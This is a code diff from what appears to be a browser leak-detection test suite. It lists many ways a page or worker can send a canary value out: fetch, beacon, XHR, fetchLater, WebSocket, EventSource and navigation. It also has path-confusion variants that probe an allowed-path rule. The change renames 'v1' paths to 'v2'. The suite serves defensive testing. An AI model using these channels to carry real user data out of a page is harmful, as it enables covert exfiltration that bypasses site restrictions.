@@ -10,11 +10,11 @@ export const fromPage = {
   fetch: ({ sink, canary, name }) => fetch(`${sink}${name}?${canary}`, { mode: "no-cors" }),
   "fetch-post": ({ sink, canary, name }) => fetch(`${sink}${name}`, { method: "POST", mode: "no-cors", body: canary, keepalive: true }),
   "fetch-own": ({ own, canary, name }) => fetch(`${own}${name}?${canary}`, { method: "POST", body: canary }),
-  "fetch-v1": ({ own, canary, name }) => fetch(`${own}v1/${name}?${canary}`, { method: "POST", body: canary }),
+  "fetch-v2": ({ own, canary, name }) => fetch(`${own}v2/${name}?${canary}`, { method: "POST", body: canary }),
   xhr: ({ sink, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", sink + name); x.send(canary); },
   "xhr-own": ({ own, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", own + name); x.send(canary); },
   beacon: ({ sink, canary, name }) => navigator.sendBeacon(sink + name, canary),
-  "beacon-v1": ({ own, canary, name }) => navigator.sendBeacon(`${own}v1/${name}`, canary),
+  "beacon-v2": ({ own, canary, name }) => navigator.sendBeacon(`${own}v2/${name}`, canary),
   "beacon-own": ({ own, canary, name }) => navigator.sendBeacon(own + name, canary),
   fetchLater: ({ sink, canary, name }) => fetchLater(`${sink}${name}?${canary}`, { activateAfter: 0, mode: "no-cors" }),
   websocket: ({ sink, canary, name }) => { new WebSocket(`${sink.replace("http", "ws")}${name}?${canary}`); },
@@ -94,7 +94,7 @@ export const byPing = {
 /** Leaving for an address of the site itself, with the text in it. */
 export const byLeavingHome = {
   "location-own": ({ own, canary, name }) => { location.href = `${own}safety.html?${canary}${name}`; },
-  "location-v1": ({ own, canary, name }) => { location.href = `${own}v1/${canary}${name}`; },
+  "location-v2": ({ own, canary, name }) => { location.href = `${own}v2/${canary}${name}`; },
   "location-own-missing": ({ own, canary, name }) => { location.href = `${own}missing/${canary}${name}`; },
 };
 
@@ -102,12 +102,12 @@ export const byLeavingHome = {
 export const fromWorker = {
   fetch: ({ sink, canary, name }) => fetch(`${sink}${name}?${canary}`, { mode: "no-cors" }),
   "fetch-own": ({ own, canary, name }) => fetch(`${own}${name}?${canary}`, { method: "POST", body: canary }),
-  "fetch-v1": ({ own, canary, name }) => fetch(`${own}v1/${name}?${canary}`, { method: "POST", body: canary }),
+  "fetch-v2": ({ own, canary, name }) => fetch(`${own}v2/${name}?${canary}`, { method: "POST", body: canary }),
   // What only looks like the path that a door may reach.
-  "fetch-v1-bare": ({ own, canary, name }) => fetch(`${own}v1?${canary}${name}`),
-  "fetch-v1-elsewhere": ({ sink, canary, name }) => fetch(`${sink}v1/${name}?${canary}`, { mode: "no-cors" }),
-  "fetch-v1-up": ({ own, canary, name }) => fetch(`${own}v1/../${name}?${canary}`, { method: "POST", body: canary }),
-  "fetch-v1-inside": ({ own, canary, name }) => fetch(`${own}x/v1/${name}?${canary}`, { method: "POST", body: canary }),
+  "fetch-v2-bare": ({ own, canary, name }) => fetch(`${own}v2?${canary}${name}`),
+  "fetch-v2-elsewhere": ({ sink, canary, name }) => fetch(`${sink}v2/${name}?${canary}`, { mode: "no-cors" }),
+  "fetch-v2-up": ({ own, canary, name }) => fetch(`${own}v2/../${name}?${canary}`, { method: "POST", body: canary }),
+  "fetch-v2-inside": ({ own, canary, name }) => fetch(`${own}x/v2/${name}?${canary}`, { method: "POST", body: canary }),
   xhr: ({ sink, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", sink + name); x.send(canary); },
   websocket: ({ sink, canary, name }) => { new WebSocket(`${sink.replace("http", "ws")}${name}?${canary}`); },
   eventsource: ({ sink, canary, name }) => { new EventSource(`${sink}${name}?${canary}`); },
